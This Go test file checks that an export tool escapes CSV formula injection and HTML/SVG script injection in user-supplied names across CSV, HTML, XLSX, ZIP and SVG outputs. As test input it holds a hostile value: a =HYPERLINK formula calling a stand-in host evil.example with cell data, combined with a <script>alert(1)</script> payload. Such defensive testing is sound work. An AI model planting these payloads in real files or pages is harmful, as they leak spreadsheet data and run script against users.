package main

import (
	"archive/zip"
	"bytes"
	"io/fs"
	"strings"
	"testing"
)

func TestCSVHasNoFormulas(t *testing.T) {
	var b strings.Builder
	w := newCSV(&b)
	row := []string{"=1+1", "+cmd", "-2.5", "@SUM(A1)", "\tx", "\rx", "-1e3", "-", "a=b", "+7 495", "=HYPERLINK(\"http://x\")"}
	if err := w.WriteAll([][]string{row}); err != nil {
		t.Fatal(err)
	}
	if want := "'=1+1,'+cmd,-2.5,'@SUM(A1),'\tx,\"'\rx\",-1e3,-,a=b,'+7 495,\"'=HYPERLINK(\"\"http://x\"\")\"\n"; b.String() != want {
		t.Errorf("%q, want %q", b.String(), want)
	}
	if row[0] != "=1+1" {
		t.Error("the caller's row was changed")
	}
}

// What a user names comes into no export as a formula or as markup.
func TestHostileNamesAreText(t *testing.T) {
	_, all := theJobs(t)
	const evil = `=HYPERLINK("http://evil.example/"&A1)<script>alert(1)</script>`
	scenario := "scenario: '" + evil + "'\nmeasures:\n  - id: border\n    name: '" + evil + "'\n    border: {countries: IR-AZ, hours_factor: 0.5}\n"
	flows := "id,origin,destination,goods,quantity,unit\n\"" + strings.ReplaceAll(evil, `"`, `""`) + "\",Tehran,Baku,general,1000,t\n"
	answers := map[string][]byte{}
	for kind, formats := range map[string][]string{"appraise": {"csv", "html", "xlsx", "zip", "svg"}, "scenario-diff": {"csv", "svg"}, "scenario-rank": {"csv"}} {
		for _, format := range formats {
			input := map[string]any{"scenario_yaml": scenario, "flows": flows, "format": format}
			if kind == "appraise" {
				input["draws"] = 100
				if format == "svg" {
					input["picture"] = "accounts"
				}
			}
			_, got, err := all[kind].Run(t.Context(), inputOf(t, input), func(string, int64, int64) {})
			if err != nil {
				t.Fatalf("%s %s: %v", kind, format, err)
			}
			answers[kind+"."+format] = got
		}
	}
	for name, got := range answers {
		switch {
		case strings.HasSuffix(name, ".csv"):
			if bytes.Contains(got, []byte("\n=")) || bytes.Contains(got, []byte(",=")) || bytes.Contains(got, []byte(`,"=`)) || bytes.Contains(got, []byte("\n\"=")) {
				t.Errorf("%s has a formula: %.300s", name, got)
			}
		case strings.HasSuffix(name, ".html"), strings.HasSuffix(name, ".svg"):
			if bytes.Contains(got, []byte("<script>alert")) {
				t.Errorf("%s has a script", name)
			}
			if name == "appraise.html" && !bytes.Contains(got, []byte("&lt;script&gt;")) {
				t.Errorf("%s does not show the name", name)
			}
		case strings.HasSuffix(name, ".xlsx"):
			z, err := zip.NewReader(bytes.NewReader(got), int64(len(got)))
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range z.File {
				text, err := fs.ReadFile(z, f.Name)
				if err != nil {
					t.Fatal(err)
				}
				for _, cell := range strings.Split(string(text), "<f>")[1:] {
					if before, _, _ := strings.Cut(cell, "</f>"); strings.Contains(before, "evil") {
						t.Errorf("%s has the formula %q", f.Name, before)
					}
				}
			}
		}
	}
}
